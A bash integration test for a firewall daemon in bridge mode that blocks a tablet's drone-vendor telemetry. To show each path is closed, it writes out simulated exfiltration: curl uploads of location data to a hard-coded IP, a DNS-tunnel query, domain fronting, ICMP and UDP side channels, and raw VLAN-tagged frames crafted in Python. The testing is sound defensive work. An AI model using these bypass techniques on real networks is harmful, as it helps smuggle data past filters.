#!/usr/bin/env bash
# Bridged tablets: `flightwall run` with intercept.mode: bridge enforcing the
# lab policy on a real Linux bridge, every local-data-mode rule witnessed on
# the far side (tcpdump on the uplink server's wire, its dnsmasq and nginx
# logs), the tablet side (fail-fast replies) and the daemon's event log.
#
#   ${P}-c  tablet   eth0 192.0.2.10/24, 2001:db8:1::10/64, default via the uplink;
#                    (also sends raw VLAN-tagged and experimental-ethertype frames,
#                    the bypass of the IP rules the guard closes)
#   ${P}-g  bridge   br0 = tab0 (tablet side) + up0 (uplink side), 192.0.2.2/24 and
#                    2001:db8:1::2/64 on br0 (management, fail-fast replies);
#                    runs `flightwall run` in bridge mode
#   ${P}-s  uplink   eth0 192.0.2.1/24, 2001:db8:1::1/64;
#                    srv0: dnsmasq, nginx as in lib/daemon_lab.sh
#
# The start checks are exercised first (refusals with exit 2), then the
# bridge is shown to pass everything without the daemon (baseline), then the
# rules run. Exit 77 (skip) without root or a needed tool.
# shellcheck disable=SC2016  # eval'd checks are single-quoted on purpose
# shellcheck source-path=SCRIPTDIR
set -uo pipefail

# shellcheck source=lib/daemon_lab.sh
source "$(dirname "${BASH_SOURCE[0]}")/lib/daemon_lab.sh"
dl_check_requirements daemon_bridge_test || exit 77
for t in nft python3; do
  command -v "$t" >/dev/null 2>&1 || {
    echo "SKIP: daemon_bridge_test needs '$t' (run scripts/setup)"
    exit 77
  }
done
ip netns add "brprobe$$" 2>/dev/null || exit 77
if ! ip -n "brprobe$$" link add br0 type bridge 2>/dev/null ||
  ! ip netns exec "brprobe$$" test -e /proc/sys/net/bridge/bridge-nf-call-iptables; then
  ip netns del "brprobe$$"
  echo "SKIP: daemon_bridge_test needs bridges and br_netfilter (modprobe br_netfilter)"
  exit 77
fi
ip netns del "brprobe$$"

dl_init "brg$$"

# --- the bridged lab --------------------------------------------------------------

# The lab library's bridged wiring (scripts/lab wire --bridge): the gateway's
# br0 bridges the tablet's port tab0 and the uplink up0; the server holds the
# tablet's router address 192.0.2.1.
bridge_namespaces() {
  _dl_make_namespaces bridge || return 1
  # A port that is not in the bridge, for the start check.
  ip -n "$DL_NS_G" link add lan9 type veth peer name lan9-peer || return 1
  ip -n "$DL_NS_G" link set lan9 up
}

bridge_up() {
  bridge_namespaces || return 1
  _dl_start_servers
}

if ! bridge_up; then
  check "the bridged lab is up" false
  dl_summary
  exit 1
fi

# Namespace-wide and per-bridge switches off, as on a host that never asked
# for br_netfilter: the daemon must turn the bridge's own on.
dl_g sysctl -q -w net.bridge.bridge-nf-call-iptables=0 net.bridge.bridge-nf-call-ip6tables=0
ip -n "$DL_NS_G" link set dev br0 type bridge nf_call_iptables 0 nf_call_ip6tables 0
nf_call() { dl_g cat "/sys/class/net/br0/bridge/nf_call_$1"; }
# (grep -c, not -q, after a pipe: -q may exit before the writer is done, and
# pipefail would then count the writer's SIGPIPE as a failure.)

POLICY="$DL_DIR/policy.yaml"
CONFIG="$DL_DIR/flightwall.yaml"
dl_write_policy "$POLICY" enforce
sed -i 's/^    interfaces: \[lan0\]$/    interfaces: [tab0]/' "$POLICY"
dl_write_config "$CONFIG" "$POLICY" closed
sed -i 's/^  mode: forward$/  mode: bridge\n  bridge: br0/' "$CONFIG"
check "the lab config is in bridge mode on br0, the policy's tablet is port tab0" \
  eval 'grep -qx "  bridge: br0" "$CONFIG" && grep -q "interfaces: \[tab0\]" "$POLICY"'

# --- rules --print ------------------------------------------------------------------

"$FLIGHTWALL" rules --print --config "$CONFIG" >"$DL_DIR/print.txt" 2>&1
check "rules --print: the tablet's port is matched with physdev in FORWARD" \
  eval 'grep -qx -- "-A FLIGHTWALL -m physdev --physdev-in tab0 -j FLIGHTWALL_APP" "$DL_DIR/print.txt" &&
        grep -qx -- "-I FORWARD 1 -j FLIGHTWALL" "$DL_DIR/print.txt"'
check "rules --print: the bridge switches and the guard against non-IP frames are shown" \
  eval 'grep -q "nf_call_iptables 1 nf_call_ip6tables 1" "$DL_DIR/print.txt" &&
        grep -q "iifname \"tab0\" ether type != { ip, ip6, arp } counter drop" "$DL_DIR/print.txt"'

# --- start checks: refusals with exit 2 ----------------------------------------------

refused() { # refused DESC CONFIG EXPECTED-TEXT
  local rc out="$DL_DIR/logs/refused.txt"
  timeout 20 ip netns exec "$DL_NS_G" "$FLIGHTWALL" run --config "$2" </dev/null >"$out" 2>&1
  rc=$?
  if [[ $rc == 2 ]] && grep -qF -- "$3" "$out" && ! grep -qx READY "$out" && ! dl_rules_present; then
    check "$1: exit 2, '$3'" true
  else
    check "$1: exit $rc (want 2), $(tail -n 2 "$out" | tr '\n' ' ')" false
  fi
}
sed 's/^  bridge: br0$/  bridge: up0/' "$CONFIG" >"$DL_DIR/notbridge.yaml"
refused "start: intercept.bridge names a port, not a bridge" "$DL_DIR/notbridge.yaml" \
  "bridge mode: interface up0 is not a bridge"
sed 's/^  bridge: br0$/  bridge: br7/' "$CONFIG" >"$DL_DIR/nobridge.yaml"
refused "start: the bridge does not exist" "$DL_DIR/nobridge.yaml" \
  "bridge mode: there is no interface br7 in this network namespace"
sed 's/interfaces: \[tab0\]/interfaces: [lan9]/' "$POLICY" >"$DL_DIR/notport-policy.yaml"
sed "s#^policy: .*#policy: $DL_DIR/notport-policy.yaml#" "$CONFIG" >"$DL_DIR/notport.yaml"
refused "start: the flight app's interface is not a port of br0" "$DL_DIR/notport.yaml" \
  "bridge mode: interface lan9 is not a port of bridge br0 (ip link set lan9 master br0)"
sed 's/^  backend: iptables$/  backend: nftables/' "$CONFIG" >"$DL_DIR/nft.yaml"
refused "start: backend nftables cannot do bridge mode" "$DL_DIR/nft.yaml" \
  "mode: bridge needs backend: iptables"
check "the refused starts changed nothing on the bridge (nf_call_iptables still 0, no guard)" \
  eval '[[ $(nf_call iptables) == 0 ]] && ! dl_g nft list table bridge flightwall >/dev/null 2>&1'

# l2_frames: from the tablet's eth0, raw frames to the uplink's MAC that no IP
# rule sees: an 802.1Q-tagged IPv4/UDP datagram (VLAN 42) and a frame of the
# local experimental ethertype 0x88b5, each carrying "position" data.
SERVER_MAC=$(ip -n "$DL_NS_S" -br link show eth0 | awk '{print $3}')
l2_frames() {
  dl_c python3 - "$SERVER_MAC" <<'PY'
import socket, struct, sys
dst = bytes.fromhex(sys.argv[1].replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
src = s.getsockname()[4]
data = b"FWLAB-L2 lat=46.51234 lon=6.63201"
udp = struct.pack("!HHHH", 40000, 9999, 8 + len(data), 0) + data
def csum(b):
    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    t = (t >> 16) + (t & 0xFFFF)
    return ~(t + (t >> 16)) & 0xFFFF
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 socket.inet_aton("192.0.2.10"), socket.inet_aton("203.0.113.88"))
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
for _ in range(3):
    s.send(dst + src + struct.pack("!HHH", 0x8100, 42, 0x0800) + ip + udp)
    s.send(dst + src + struct.pack("!H", 0x88B5) + data.ljust(46, b"\0"))
PY
}

# --- baseline: the bridge passes everything without the daemon ----------------------

BASE_PCAP="$DL_DIR/base.pcap"
dl_capture_start "$DL_NS_S" eth0 "$BASE_PCAP" || check "tcpdump on the uplink" false
BASE_PID=$DL_CAPTURE_PID
check "baseline: the hard-coded IP 203.0.113.77:8443 answers the tablet across the bridge" \
  eval '[[ $(dl_c curl -s --max-time 4 http://203.0.113.77:8443/) == "upload ok" ]]'
check "baseline: the tablet sends VLAN-tagged and experimental-ethertype frames" l2_frames
dl_capture_stop "$BASE_PID"
check "baseline: the uplink saw the tablet's VLAN-tagged and 0x88b5 frames" \
  eval '(($(dl_count "$BASE_PCAP" "vlan 42") > 0 && $(dl_count "$BASE_PCAP" "ether proto 0x88b5") > 0))'

# --- enforcing ------------------------------------------------------------------------

if ! dl_start_daemon "$CONFIG"; then
  check "flightwall run in bridge mode is READY" false
  dl_summary
  exit 1
fi
check "flightwall run in bridge mode is READY" true
NGINX_MARK=$(wc -l <"$DL_DIR/logs/nginx-access.log")
check "start: the daemon says it turned the bridge's nf_call_iptables on, and why" \
  grep -q "bridge br0: nf_call_iptables was 0 (net.bridge.bridge-nf-call-iptables is 0 in this namespace); flightwall set it to 1" "$DL_DAEMON_LOG"
check "start: the daemon explains fail-fast replies on a bridge" \
  grep -q "bridge mode: traffic bridged from tab0 on br0 is governed" "$DL_DAEMON_LOG"
check "br0's nf_call_iptables and nf_call_ip6tables are 1 while enforcing" \
  eval '[[ "$(nf_call iptables) $(nf_call ip6tables)" == "1 1" ]]'
check "the guard table is loaded and the FORWARD chains jump to the rules (v4 and v6)" \
  eval 'dl_g nft list table bridge flightwall | grep -c "iifname \"tab0\" ether type" >/dev/null &&
        dl_g iptables-save -t mangle | grep -c -- "^-A FORWARD -j FLIGHTWALL$" >/dev/null &&
        dl_g ip6tables-save -t mangle | grep -c -- "-A FLIGHTWALL -m physdev --physdev-in tab0" >/dev/null'

FAR="$DL_DIR/far.pcap"
NEAR="$DL_DIR/near.pcap"
dl_capture_start "$DL_NS_S" eth0 "$FAR" || check "tcpdump on the uplink" false
FAR_PID=$DL_CAPTURE_PID
dl_capture_start "$DL_NS_C" eth0 "$NEAR" || check "tcpdump on the tablet" false
NEAR_PID=$DL_CAPTURE_PID

dig_status() { sed -n 's/.*status: \([A-Z]*\),.*/\1/p' | head -n1; }
# shellcheck disable=SC2034  # used inside an eval'd check
NET_PROBE="$DL_SRC/tests/integration/net_probe.py"
PAYLOAD="$DL_DIR/payload.bin"
{
  printf 'FWLAB-UPLOAD serial=1ZNBJ7A00C0001 lat=46.51234 lon=6.63201\n'
  head -c 3000 /dev/urandom | od -An -tx1
} >"$PAYLOAD"

# Allowed: map tiles by name through the trusted resolver, both families.
check "tiles v4: a.tiles.mapbox.com by name through the bridge -> 200" \
  equals 200 "$(dl_fetch a.tiles.mapbox.com /v4/mapbox.satellite/1/0/0.png -4)"
check "tiles v6: api.mapbox.com over IPv6 through the bridge -> 200" \
  equals 200 "$(dl_fetch api.mapbox.com /v4/mapbox.satellite/1/0/0.png -6)"
# Denied vendor names: REFUSED by the daemon (its reply leaves br0's address).
check "DNS vendor v4: flightlog.dji.com -> REFUSED" \
  equals REFUSED "$(dl_c dig +time=2 +tries=1 @203.0.113.53 flightlog.dji.com A | dig_status)"
check "DNS vendor v6: www.skypixel.com AAAA via 2001:db8:53::53 -> REFUSED" \
  equals REFUSED "$(dl_c dig +time=2 +tries=1 @2001:db8:53::53 www.skypixel.com AAAA | dig_status)"
check "vendor host: https://flightlog.dji.com gets no answer" \
  dl_not dl_fetch_ok flightlog.dji.com /
# Hard-coded addresses.
check "hard-coded IP v4: http://203.0.113.77:8443 upload gets nothing" \
  dl_not eval '[[ $(dl_c curl -s --max-time 4 --data-binary "@$PAYLOAD" http://203.0.113.77:8443/) == "upload ok" ]]'
check "hard-coded IP v6: https://[2001:db8:100::20] gets nothing" \
  dl_not eval '[[ $(dl_c curl -sk --max-time 4 -o /dev/null -w "%{http_code}" "https://[2001:db8:100::20]/") == 200 ]]'
# Another resolver, and a DNS tunnel through the trusted one.
for r in 203.0.113.99 2001:db8:99::99; do
  check "rogue resolver $r: no answer" \
    dl_not eval "dl_c dig +time=2 +tries=1 @$r api.mapbox.com A | grep -c 'status: NOERROR' >/dev/null"
done
TUNNEL="46726f6d3a314e5a424a3741303043.0.dns-tunnel.example"
check "DNS tunnel: TXT $TUNNEL -> REFUSED" \
  equals REFUSED "$(dl_c dig +time=2 +tries=1 @203.0.113.53 TXT "$TUNNEL" | dig_status)"
# ICMP and a UDP side channel to the uplink.
quiet() { "$@" >/dev/null 2>&1; }
check "ICMP v4: ping 203.0.113.88 gets no reply" dl_not quiet dl_c ping -n -c 2 -W 1 -i 0.2 203.0.113.88
check "ICMP v6: ping 2001:db8:100::10 gets no reply" \
  dl_not quiet dl_c ping -6 -n -c 2 -W 1 -i 0.2 2001:db8:100::10
for a in 203.0.113.88 2001:db8:100::20; do
  check "UDP side channel $a:9999: not echoed (timeout or ICMP error)" \
    eval "[[ \$(dl_c python3 \"\$NET_PROBE\" udp-error $a 9999 FWLAB-UDP) =~ ^(timeout|E[A-Z]+)$ ]]"
done
# Domain fronting: the allowed name as SNI to the vendor's address, and a
# denied name as SNI on the tile server's (attested) address.
check "fronting: SNI a.tiles.mapbox.com sent to the vendor 198.51.100.20 -> nothing" \
  dl_not dl_fetch_ok a.tiles.mapbox.com /front -k --connect-to a.tiles.mapbox.com:443:198.51.100.20:443 \
  --data-binary "@$PAYLOAD"
check "fronting: denied SNI $DL_CDN_DENIED on the tiles' 198.51.100.10 -> nothing" \
  dl_not dl_fetch_ok "$DL_CDN_DENIED" /upload --connect-to "$DL_CDN_DENIED:443:198.51.100.10:443" \
  --data-binary "@$PAYLOAD"
# Frames the IP rules never see: VLAN-tagged, stopped by the guard.
check "L2: the tablet sends VLAN-tagged and 0x88b5 frames again" l2_frames

sleep 0.3 # the last resets and answers cross the wire before the captures stop
dl_capture_stop "$NEAR_PID"
dl_capture_stop "$FAR_PID"

# --- far-side witnesses --------------------------------------------------------------

far_none() { # far_none DESC BPF
  local n
  n=$(dl_count "$FAR" "$2")
  check "far side: $1 (0 packets: $2; saw $n)" test "$n" -eq 0
}
far_some() {
  local n
  n=$(dl_count "$FAR" "$2")
  check "far side: $1 (some packets: $2; saw $n)" test "$n" -gt 0
}
far_some "the tiles' TLS payload reached 198.51.100.10" "dst host 198.51.100.10 and $DL_TCP_PAYLOAD"
far_some "the tiles' TLS payload reached 2001:db8:100::10" "dst host 2001:db8:100::10 and $DL_TCP_PAYLOAD"
far_none "no TCP payload reached the vendor 198.51.100.20" "dst host 198.51.100.20 and $DL_TCP_PAYLOAD"
far_none "no TCP payload reached the vendor 2001:db8:100::20" "dst host 2001:db8:100::20 and $DL_TCP_PAYLOAD"
far_none "no TCP payload reached the hard-coded 203.0.113.77" "dst host 203.0.113.77 and $DL_TCP_PAYLOAD"
far_none "nothing reached the rogue resolvers" "dst host 203.0.113.99 or dst host 2001:db8:99::99"
far_none "no ICMP echo request reached 203.0.113.88" "icmp and icmp[icmptype] == icmp-echo and dst host 203.0.113.88"
far_none "no ICMPv6 echo request reached 2001:db8:100::10" "icmp6 and ip6[40] == 128 and dst host 2001:db8:100::10"
far_none "no UDP datagram reached 203.0.113.88" "udp and dst host 203.0.113.88"
far_none "no UDP datagram reached 2001:db8:100::20:9999" "udp and dst host 2001:db8:100::20 and dst port 9999"
far_none "no VLAN-tagged frame crossed the bridge" "vlan"
far_none "no 0x88b5 frame crossed the bridge" "ether proto 0x88b5"
far_text() { tcpdump -r "$FAR" -n -A 2>/dev/null | grep -c -- "$1"; }
check "far side: no DNS question for flightlog.dji.com, www.skypixel.com or dns-tunnel crossed" \
  eval '(($(far_text flightlog) + $(far_text skypixel) + $(far_text dns-tunnel) == 0))'
check "far side: the ClientHello naming $DL_CDN_DENIED never crossed" equals 0 "$(far_text "$DL_CDN_DENIED")"
check "far side: the allowed ClientHello did (a.tiles.mapbox.com in the clear)" \
  eval '(($(far_text a.tiles.mapbox.com) > 0))'
check "resolver log: the tablet asked for a.tiles.mapbox.com, never for denied names" \
  eval 'grep -q "a.tiles.mapbox.com from 192.0.2.10" "$DL_DIR/logs/dnsmasq.log" &&
        ! grep -qE "flightlog|skypixel|dns-tunnel" "$DL_DIR/logs/dnsmasq.log"'
tail -n +"$((NGINX_MARK + 1))" "$DL_DIR/logs/nginx-access.log" >"$DL_DIR/nginx-enforcing.log"
check "nginx log while enforcing: tiles served, nothing for the vendor, the CDN tenant or 203.0.113.77" \
  eval 'grep -q "sni=a.tiles.mapbox.com" "$DL_DIR/nginx-enforcing.log" &&
        ! grep -qE "198\.51\.100\.20|2001:db8:100::20|sni=$DL_CDN_DENIED|203\.0\.113\.77" "$DL_DIR/nginx-enforcing.log"'

# --- tablet side: fail-fast replies from br0's address --------------------------------
near_some() {
  local n
  n=$(dl_count "$NEAR" "$2")
  check "tablet side: $1 (saw $n)" test "$n" -gt 0
}
near_some "resets in the name of 203.0.113.77" "src host 203.0.113.77 and tcp[tcpflags] & tcp-rst != 0"
near_some "ICMP unreachable in the name of 203.0.113.88" "icmp and icmp[icmptype] == icmp-unreach and src host 203.0.113.88"
check "tablet side: REFUSED answers in the resolver's name" \
  eval '(($(tcpdump -r "$NEAR" -n "src host 203.0.113.53 and udp src port 53" 2>/dev/null | grep -c Refused) > 0))'

# --- the daemon's own record -----------------------------------------------------------
check "events: deny 203.0.113.77 no-dns-attestation, deny flightlog.dji.com, allow a.tiles.mapbox.com" \
  eval 'python3 - "$DL_DIR/events.jsonl" <<"PY"
import json, sys
ev = [json.loads(l) for l in open(sys.argv[1])]
def has(**kw):
    return any(all(e.get(k) == v for k, v in kw.items()) for e in ev)
ok = (has(verdict="deny", dst="203.0.113.77", reason="no-dns-attestation") and
      has(verdict="deny", hostname="flightlog.dji.com", reason="dns-name-not-allowed") and
      has(verdict="deny", dst="203.0.113.99", reason="dns-resolver-not-allowed") and
      has(verdict="deny", protocol="icmp", dst="203.0.113.88") and
      has(verdict="allow", hostname="a.tiles.mapbox.com"))
sys.exit(0 if ok else 1)
PY'
check "metrics: denied and allowed packets counted" \
  eval '(($(dl_metric "flightwall_packets_total{verdict=\"deny\"}" | cut -d. -f1) > 0))'

# Someone turns the bridge's switch off while the daemon enforces: it is back
# within the main loop's half second, and the log says so.
ip -n "$DL_NS_G" link set dev br0 type bridge nf_call_iptables 0
nf_call_on() { [[ $(nf_call iptables) == 1 ]]; }
check "while enforcing: nf_call_iptables turned off is turned back on within 3 s" dl_wait 30 nf_call_on
check "while enforcing: the daemon logs that it turned it back on" \
  grep -q "bridge br0: nf_call_iptables was turned off while enforcing; flightwall set it back to 1" \
  "$DL_DAEMON_LOG"

# --- stop: everything put back ----------------------------------------------------------
dl_stop_daemon TERM
check "SIGTERM: clean exit (rc $DL_DAEMON_RC)" equals 0 "$DL_DAEMON_RC"
check "stop: the rules, the guard are gone and br0's nf_call_* are back to 0" \
  eval '! dl_rules_present && ! dl_g nft list table bridge flightwall >/dev/null 2>&1 &&
        [[ "$(nf_call iptables) $(nf_call ip6tables)" == "0 0" ]]'
check "stop: the tablet reaches the hard-coded IP again (the bridge is plain again)" \
  eval '[[ $(dl_c curl -s --max-time 4 http://203.0.113.77:8443/) == "upload ok" ]]'
check "the root namespace's netfilter state is unchanged" dl_root_unchanged

if ((FAILED)); then
  echo "--- daemon log"
  tail -n 30 "$DL_DAEMON_LOG"
fi
dl_summary
